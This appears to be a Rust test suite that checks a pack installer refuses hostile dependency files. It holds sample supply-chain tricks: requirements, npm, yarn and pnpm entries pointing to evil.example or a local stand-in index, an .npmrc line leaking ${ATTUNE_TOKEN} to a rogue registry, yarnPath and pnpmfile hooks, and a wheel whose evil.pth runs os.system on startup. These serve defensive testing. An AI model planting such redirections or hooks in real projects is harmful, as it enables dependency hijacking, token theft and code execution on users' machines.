//! Packs that try to lead elsewhere, or to run code, while their environments are built: every row of the threat list.

use std::fs;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;

use serde_json::json;

use super::{ACTION, install, wheel, write};
use crate::support::{Place, Run, names};

/// A file of a pack, what stands in it, and why it is refused.
type Trick = (&'static str, String, &'static str);

const ELSEWHERE: &str = "comes from a place of its own";
const DIRECTORY: &str = "leads to a directory, not to an archive";
const RUN: &str = "package managers run it";

/// Lines of requirements.
fn of_python(url: &str) -> Vec<Trick> {
    let index = "which index packages come from";
    let source = "built from source";
    let outside = "leads out of the pack";
    let rows = [
        (format!("--index-url {url}\ntiny\n"), index),
        (format!("-i {url}\ntiny\n"), index),
        (format!("--extra-index-url={url}\ntiny\n"), index),
        ("--trusted-host evil.example\ntiny\n".to_owned(), index),
        (format!("--find-links {url}\ntiny\n"), ELSEWHERE),
        (format!("tiny @ {url}/tiny.whl\n"), ELSEWHERE),
        (format!("{url}/tiny-1.0.0-py3-none-any.whl\n"), ELSEWHERE),
        ("git+https://evil.example/tiny.git\n".to_owned(), ELSEWHERE),
        ("-e .\n".to_owned(), source),
        (".\n".to_owned(), source),
        ("./tiny-1.0.0.tar.gz\n".to_owned(), source),
        ("--no-binary :all:\ntiny\n".to_owned(), source),
        (
            "tiny --config-settings=a=b\n".to_owned(),
            "options to a build",
        ),
        ("-r ../outside.txt\n".to_owned(), outside),
        ("-c ../outside.txt\ntiny\n".to_owned(), outside),
        ("-r /etc/hostname\n".to_owned(), outside),
        (format!("-c {url}/c.txt\ntiny\n"), ELSEWHERE),
        (
            "tiny==${ATTUNE_TOKEN}\n".to_owned(),
            "variable of the environment",
        ),
    ];
    let rows = rows.into_iter();
    rows.map(|(text, why)| ("requirements.txt", text, why))
        .collect()
}

/// Manifests of Node.js packages, and files that package managers read before any policy.
fn of_node(url: &str) -> Vec<Trick> {
    let archive = format!("{url}/tiny.tgz");
    let sources = [
        (archive.as_str(), ELSEWHERE),
        ("git+https://evil.example/tiny.git", ELSEWHERE),
        ("git@evil.example:tiny.git", ELSEWHERE),
        ("evil/tiny", ELSEWHERE),
        ("exec:./run.js", ELSEWHERE),
        ("file:../outside.tgz", "no archive inside the pack"),
        ("link:../outside", DIRECTORY),
        ("portal:../outside", DIRECTORY),
        ("../outside.tgz", DIRECTORY),
    ];
    let manifest = |spec: &str| json!({"dependencies": {"tiny": spec}}).to_string();
    let mut rows: Vec<Trick> = (sources.iter())
        .map(|(spec, why)| ("package.json", manifest(spec), *why))
        .collect();
    let workspaces = json!({"dependencies": {"a": "1"}, "workspaces": ["../*"]}).to_string();
    rows.push((
        "package.json",
        workspaces,
        "workspaces lead to further manifests",
    ));
    let run = "require('fs').writeFileSync(process.env.CANARY, 'ran')";
    rows.extend([
        (
            ".npmrc",
            format!("registry={url}\n//evil/:_authToken=${{ATTUNE_TOKEN}}\n"),
            RUN,
        ),
        (".yarnrc", "yarn-path \"./run.js\"\n".to_owned(), RUN),
        (".yarnrc.yml", "yarnPath: ./run.js\n".to_owned(), RUN),
        (".pnpmfile.cjs", run.to_owned(), RUN),
        ("pnpm-workspace.yaml", format!("registry: {url}\n"), RUN),
    ]);
    rows
}

/// Locks of npm and pnpm that lead elsewhere although the manifest does not.
fn of_locks(url: &str) -> Vec<Trick> {
    let address = format!("{url}/tiny.tgz");
    let npm = [
        (json!({"version": "1.0.0", "resolved": address}), ELSEWHERE),
        (
            json!({"resolved": "git+ssh://git@evil.example/t.git"}),
            ELSEWHERE,
        ),
        (json!({"resolved": "//evil.example/t.tgz"}), ELSEWHERE),
        (json!({"resolved": "../outside", "link": true}), DIRECTORY),
        (json!({"resolved": "/etc/hostname"}), DIRECTORY),
    ];
    let npm = npm.map(|(package, why)| {
        let packages = json!({"": {}, "node_modules/tiny": package});
        let text = json!({"lockfileVersion": 3, "packages": packages}).to_string();
        ("package-lock.json", text, why)
    });
    let tarball = format!("{{tarball: '{address}'}}");
    let pnpm = [
        (tarball.as_str(), ELSEWHERE),
        (
            "{type: git, repo: 'git@evil.example:t.git', commit: '0a'}",
            ELSEWHERE,
        ),
        ("{type: directory, directory: ../outside}", ELSEWHERE),
        ("{directory: ../outside}", DIRECTORY),
        (
            "{integrity: sha512-YQ==, tarball: 'file:../outside.tgz'}",
            "no archive inside the pack",
        ),
    ];
    let pnpm = pnpm.map(|(resolution, why)| {
        let text = format!(
            "lockfileVersion: '9.0'\npackages:\n  tiny@1.0.0:\n    resolution: {resolution}\n"
        );
        ("pnpm-lock.yaml", text, why)
    });
    npm.into_iter().chain(pnpm).collect()
}

/// The same of yarn 1, and of yarn 2 and later.
fn of_yarn(url: &str) -> Vec<Trick> {
    let address = format!("{url}/tiny.tgz");
    let first = [
        (address.as_str(), ELSEWHERE),
        ("file:../outside.tgz", "no archive inside the pack"),
        (
            "\\u0068ttp://evil.example/t.tgz",
            "yarn does not write such a line",
        ),
    ];
    let first = first.map(|(resolved, why)| {
        let text = format!("tiny@1.0.0:\n  version \"1.0.0\"\n  resolved \"{resolved}\"\n");
        ("yarn.lock", text, why)
    });
    let encoded = format!("tiny@npm:1.0.0::__archiveUrl={}", url.replace('/', "%2F"));
    let later = ["tiny@exec:./run.js#./run.js::hash=0a", &encoded].map(|locator| {
        let text = format!(
            "__metadata:\n  version: 8\n\n\"tiny@npm:1.0.0\":\n  resolution: \"{locator}\"\n"
        );
        ("yarn.lock", text, ELSEWHERE)
    });
    first.into_iter().chain(later).collect()
}

/// Every hostile pack is refused before anything runs: the canary is untouched, nobody was called, nothing is installed.
#[test]
fn hostile_packs_touch_nothing() {
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    server.set_nonblocking(true).unwrap();
    let url = format!("http://{}/simple", server.local_addr().unwrap());
    let tricks = [
        of_python(&url),
        of_node(&url),
        of_locks(&url),
        of_yarn(&url),
    ]
    .concat();
    for (name, text, why) in tricks {
        let place = Place::new();
        let canary = place.path("canary");
        fs::write(&canary, "untouched").unwrap();
        let code = code_that_writes(&canary);
        write(
            &place,
            "1.0.0",
            &[("setup.py", &code), ("run.js", &node_code(&canary))],
        );
        fs::write(place.path("demo/tiny-1.0.0.tar.gz"), "").unwrap();
        if !["requirements.txt", "package.json"].contains(&name) {
            let manifest = r#"{"dependencies": {"tiny": "1.0.0"}}"#;
            fs::write(place.path("demo/package.json"), manifest).unwrap();
        }
        fs::write(place.path("demo").join(name), &text).unwrap();
        fs::write(place.path("outside.txt"), "tiny\n").unwrap();
        fs::write(place.path("outside.tgz"), "").unwrap();
        let output = place
            .attune(&["pack", "install", "./demo"])
            .env("ATTUNE_TOKEN", "t0ken")
            .env("CANARY", &canary)
            .output()
            .unwrap();
        let run = Run::of(&output);
        assert_eq!(output.status.code(), Some(1), "{name}: {text}\n{run:?}");
        assert!(run.stderr.contains(why), "{name}: {text}\n{run:?}");
        assert!(run.stderr.contains(&format!("`{name}`")), "{run:?}");
        assert!(!run.stderr.contains("t0ken"), "{text}");
        assert_eq!(fs::read_to_string(&canary).unwrap(), "untouched", "{text}");
        assert_eq!(place.active("demo"), None);
        let envs = place.installed().join(".attune/envs");
        assert!(!envs.exists() || names(envs).is_empty(), "{text}");
        assert!(server.accept().is_err(), "{text}");
    }
}

/// Python that writes to the canary.
fn code_that_writes(canary: &Path) -> String {
    format!(
        "open({:?}, 'w').write('ran')\n",
        canary.display().to_string()
    )
}

fn node_code(canary: &Path) -> String {
    format!(
        "require('fs').writeFileSync({:?}, 'ran')\n",
        canary.display().to_string()
    )
}

/// A pack that needs `tiny`, in a place full of files that pip, uv and Python could follow to `url`, or run.
fn surrounded(url: &str) -> Place {
    let place = Place::new();
    let canary = place.path("canary");
    fs::write(&canary, "untouched").unwrap();
    let code = code_that_writes(&canary);
    let uv = format!("index-url = \"{url}\"\nextra-index-url = [\"{url}\"]\n");
    let project = format!(
        "[project]\nname = \"demo\"\nversion = \"1\"\n[[tool.uv.index]]\nurl = \"{url}\"\ndefault = true\n"
    );
    let pip = format!("[global]\nindex-url = {url}\nextra-index-url = {url}\n");
    let files = [
        ("uv.toml", uv.as_str()),
        ("pyproject.toml", project.as_str()),
        ("pip.conf", pip.as_str()),
        ("setup.py", code.as_str()),
        ("sitecustomize.py", code.as_str()),
        ("usercustomize.py", code.as_str()),
        ("evil.pth", "import sitecustomize\n"),
        ("requirements.txt", "tiny\n"),
        ("actions/say.yaml", ACTION),
        ("actions/say.py", "import tiny\nprint(tiny.VERSION)\n"),
    ];
    write(&place, "1.0.0", &files);
    for (path, text) in [
        (".config/uv/uv.toml", &uv),
        (".config/pip/pip.conf", &pip),
        (".pip/pip.conf", &pip),
    ] {
        let path = place.path("home").join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    place
}

/// Files of the pack, of the user's home and variables of the caller that pip, uv and Python would follow lead nowhere.
#[test]
fn configuration_of_nobody_counts() {
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    server.set_nonblocking(true).unwrap();
    let url = format!("http://{}/simple", server.local_addr().unwrap());
    let place = surrounded(&url);
    let canary = place.path("canary");
    wheel(&place.path("operator"), "1.0.0");
    let links = json!([place.path("operator")]).to_string();
    let pack = place.path("demo");
    let output = place
        .attune(&["pack", "install", "./demo"])
        .env("ATTUNE__ENVIRONMENTS__FIND_LINKS", links)
        // Not offline: only the configured index may be asked, and nobody listens there.
        .env(
            "ATTUNE__ENVIRONMENTS__PYTHON_INDEX",
            "http://127.0.0.1:1/simple",
        )
        .env("ATTUNE__ENVIRONMENTS__TIMEOUT", "120")
        .envs(
            [
                "PIP_INDEX_URL",
                "PIP_EXTRA_INDEX_URL",
                "UV_INDEX_URL",
                "UV_DEFAULT_INDEX",
                "UV_EXTRA_INDEX_URL",
            ]
            .map(|name| (name, &url)),
        )
        .env("PYTHONPATH", &pack)
        .env("PYTHONSTARTUP", pack.join("setup.py"))
        .output()
        .unwrap();
    let run = Run::of(&output);
    // pip goes on with what it found beside an index that cannot be reached; uv stops. Neither asks anybody else.
    if output.status.success() {
        assert_eq!(
            place.run(&["action", "execute", "demo.say"], 0).stdout,
            "1.0.0\n"
        );
    } else {
        assert!(run.stderr.contains("127.0.0.1:1/simple"), "{run:?}");
    }
    assert!(server.accept().is_err(), "{run:?}");
    assert_eq!(fs::read_to_string(&canary).unwrap(), "untouched");
}

/// A source archive where wheels are is passed over, for both programs: it would be built.
#[test]
fn source_archives_are_not_built() {
    let place = Place::new();
    let canary = place.path("canary");
    fs::write(&canary, "untouched").unwrap();
    write(
        &place,
        "1.0.0",
        &[
            ("requirements.txt", "--find-links wheels\ntiny\n"),
            ("wheels/tiny-1.0.0/setup.py", &code_that_writes(&canary)),
            (
                "wheels/tiny-1.0.0/PKG-INFO",
                "Metadata-Version: 1.0\nName: tiny\nVersion: 1.0.0\n",
            ),
        ],
    );
    let packed = Command::new("tar")
        .args(["-czf", "tiny-1.0.0.tar.gz", "tiny-1.0.0"])
        .current_dir(place.path("demo/wheels"))
        .status();
    assert!(packed.unwrap().success());
    let failed = install(&place, 1, &[]);
    assert!(
        failed
            .stderr
            .contains("cannot build the python environment"),
        "{failed:?}"
    );
    assert_eq!(fs::read_to_string(&canary).unwrap(), "untouched");
    assert_eq!(place.active("demo"), None);
}

/// A wheel that runs code whenever Python starts writes nothing outside its environment while it is installed.
#[test]
fn code_in_wheels_cannot_write_outside_the_environment() {
    let place = Place::new();
    let canary = place.path("canary");
    fs::write(&canary, "untouched").unwrap();
    wheel(&place.path("demo/wheels"), "1.0.0");
    let script = "import sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], 'a') as z:\n    z.writestr('evil.pth', \"import os; os.system('echo x > %s')\\n\" % sys.argv[2])\n    z.writestr('sitecustomize.py', 'open(%r, \"w\")\\n' % sys.argv[2])\n";
    let path = place.path("demo/wheels/tiny-1.0.0-py3-none-any.whl");
    let done = Command::new("python3")
        .arg("-c")
        .arg(script)
        .arg(path)
        .arg(&canary)
        .status()
        .unwrap();
    assert!(done.success());
    write(
        &place,
        "1.0.0",
        &[("requirements.txt", "--find-links wheels\ntiny\n")],
    );
    install(&place, 0, &[]);
    assert_eq!(fs::read_to_string(&canary).unwrap(), "untouched");
}
